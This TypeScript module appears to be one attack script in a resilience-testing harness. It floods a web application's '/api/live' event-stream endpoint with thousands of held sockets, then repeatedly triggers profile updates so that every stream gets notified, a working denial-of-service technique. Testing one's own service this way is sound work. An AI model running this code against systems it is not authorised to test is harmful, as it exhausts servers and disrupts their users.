import net from 'node:net'
import { once } from 'node:events'
import { setTimeout as wait } from 'node:timers/promises'
import { getRequest } from '../http.ts'
import type { Attack, Target } from './attack.ts'

const STREAMS = 5000
const WRITES = 10
const AT_ONCE = 50
const PAUSE_MS = 1000

/** Holds event streams, as many as it gets, and has each of them told that the account has changed. */
export const attackStreams: Attack = async (target, stop) => {
  const sockets = await openAll(target, stop)
  while (!stop.aborted) {
    await Promise.allSettled(Array.from({ length: WRITES }, () => saveProfile(target, stop)))
    await wait(PAUSE_MS, undefined, { signal: stop }).catch(() => {})
  }
  for (const socket of sockets) socket.destroy()
}

const openAll = async ({ url, cookie }: Target, stop: AbortSignal): Promise<net.Socket[]> => {
  const sockets: net.Socket[] = []
  const { hostname, port } = new URL(url)
  const openNext = async () => {
    while (sockets.length < STREAMS && !stop.aborted) {
      const socket = net.connect(Number(port), hostname)
      sockets.push(socket)
      socket.on('error', () => {}) // refused or ended: the attacker does not mind
      socket.write(getRequest('/api/live', 'identity', cookie))
      await once(socket, 'data').catch(() => {})
      socket.resume()
    }
  }
  await Promise.all(Array.from({ length: AT_ONCE }, openNext))
  return sockets
}

const saveProfile = async ({ url, cookie }: Target, signal: AbortSignal) => {
  const profile = {
    fullName: 'Kari Nordmann',
    company: 'Fjellhamar skole',
    phone: '',
    notifyOnAssignmentAccepted: true,
  }
  const answer = await fetch(`${url}/api/profile`, {
    method: 'PUT',
    headers: { cookie, 'content-type': 'application/json' },
    body: JSON.stringify(profile),
    signal,
  })
  await answer.text()
}
